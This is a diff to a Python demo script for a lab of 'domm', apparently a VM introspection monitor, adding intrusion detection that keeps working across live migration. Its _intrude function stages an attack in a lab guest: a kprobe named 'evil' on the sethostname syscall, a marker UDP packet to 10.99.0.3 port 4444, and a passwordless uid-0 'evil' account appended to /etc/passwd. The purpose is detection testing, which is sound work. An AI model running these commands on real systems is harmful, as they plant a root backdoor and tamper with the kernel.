@@ -1,11 +1,15 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""The README's demonstration: from nothing to what domm can do today."""
+"""The README's demonstration: from nothing to a pair that is migrated while it is watched."""
 
+import shlex
 import subprocess
 import sys
 
 from . import guests, packages
-from .base import GUESTS, HOSTS, say
+from .base import GUESTS, HOSTS, say, wait_for
+
+MEMORY = "/run/domm/target1/mem"
+DISK = "/run/domm-storage/target1/0"
 
 
 def _show(machine, command):
@@ -13,6 +17,49 @@ def _show(machine, command):
     print(f"\n{machine.name}# {command}", flush=True)
     subprocess.run([*machine.ssh_command(), command], stdin=subprocess.DEVNULL, check=True, timeout=900,
                    stderr=sys.stdout)
+
+
+def _show_in(host, guest, command):
+    _show(host, f"ssh {guest.name} {shlex.quote(command)}")
+
+
+def _background(host, guest, command, log):
+    """Starts a program in a guest, which goes on after the guest has moved."""
+    guests.in_guest(host, guest, f"setsid {command} >{log} 2>&1 </dev/null &")
+
+
+def _start_watching(host, domm):
+    """Three kinds of intrusion detection, by unmodified programs of Debian and by domm's own."""
+    say("starting intrusion detection in domm1: kernel, packets, files")
+    aide = [f"database_in=file:/tmp/aide.db", "database_out=file:/tmp/aide.db", f"{DISK}/etc sha256"]
+    guests.in_guest(host, domm, f"printf '%s\\n' {' '.join(map(shlex.quote, aide))} > /tmp/aide.conf; "
+                                "aide --config /tmp/aide.conf --init >/dev/null", timeout=600)
+    guests.in_guest(host, domm, f"domm-kernel-check baseline -o /tmp/baseline {MEMORY}", timeout=600)
+    _background(host, domm, f"domm-kernel-check check -b /tmp/baseline -i 5 -j {MEMORY}", "/tmp/kernel")
+    _background(host, domm, "ngrep -l -q -d eth1 -W single 'EVIL-[A-Z]+' udp", "/tmp/packets")
+    wait_for("ngrep in domm1", lambda: guests.in_guest(host, domm, "pgrep ngrep", check=False), 60)
+
+
+def _intrude(host, target):
+    """What an intruder might do: a breakpoint in the kernel's text, a packet, a changed file."""
+    guests.in_guest(host, target, """
+        mount -t tracefs none /sys/kernel/tracing 2>/dev/null
+        cd /sys/kernel/tracing
+        for at in 9 10 11 12 13 14 15 16 17 18 20 24; do
+            echo "p:evil __x64_sys_sethostname+$at" > kprobe_events 2>/dev/null && break
+        done
+        echo 1 > events/kprobes/evil/enable
+        bash -c 'echo EVIL-OUTBOUND > /dev/udp/10.99.0.3/4444'
+        echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd; sync""")
+
+
+def _seen(host, domm):
+    """Waits until all three have noticed."""
+    def alarms():
+        return guests.in_guest(host, domm, "grep -q changed /tmp/kernel && grep -q EVIL /tmp/packets && "
+                                           "! aide --config /tmp/aide.conf --check >/tmp/files && echo yes",
+                               check=False, timeout=300)
+    wait_for("the three alarms", lambda: "yes" in alarms(), 180)
 
 
 def run(lab):
@@ -25,13 +72,19 @@ def run(lab):
     host1.run("cat > /etc/xen/watch.cfg", input=guests.watch_config(domm, target))
     _show(host1, "domm version")
     _show(host1, "domm create /etc/xen/watch.cfg")
-    _show(host1, "domm list")
     _show(host1, "domm monitor-status")
-    _show(host1, "ssh domm1 \"grep -a -m 1 -o 'Linux version [0-9.-]*' /run/domm/target1/mem | head -n 1\"")
-    _show(host1, "domm detach domm1")
-    say("the target moves to host2 the ordinary way, and for that time nobody could watch it: "
-        "what domm migrate is for")
-    _show(host1, "xl migrate target1 host2")
+    _start_watching(host1, domm)
+    processes = "pgrep -a 'ngrep|domm-kernel|domm-agent'; cat /proc/sys/kernel/random/boot_id"
+    _show_in(host1, domm, processes)
+    say("now both move to host2, in step")
+    _show(host1, "domm migrate domm1 host2")
+    _show(host1, "domm list")
     _show(host2, "domm list")
-    _show(host2, "ssh target1 tail -n 1 /var/lib/ticker/ticks")
+    _show(host2, "domm monitor-status")
+    say("the same processes in domm1, and they see what happens in target1 at host2")
+    _show_in(host2, domm, processes)
+    _intrude(host2, target)
+    _seen(host2, domm)
+    _show_in(host2, domm, "grep -m 1 changed /tmp/kernel; grep -m 1 EVIL /tmp/packets; "
+                          "grep -m 1 etc/passwd /tmp/files")
     say("the lab stays up: 'tests/lab/lab --help' says what else it does, 'tests/lab/lab down' ends it")
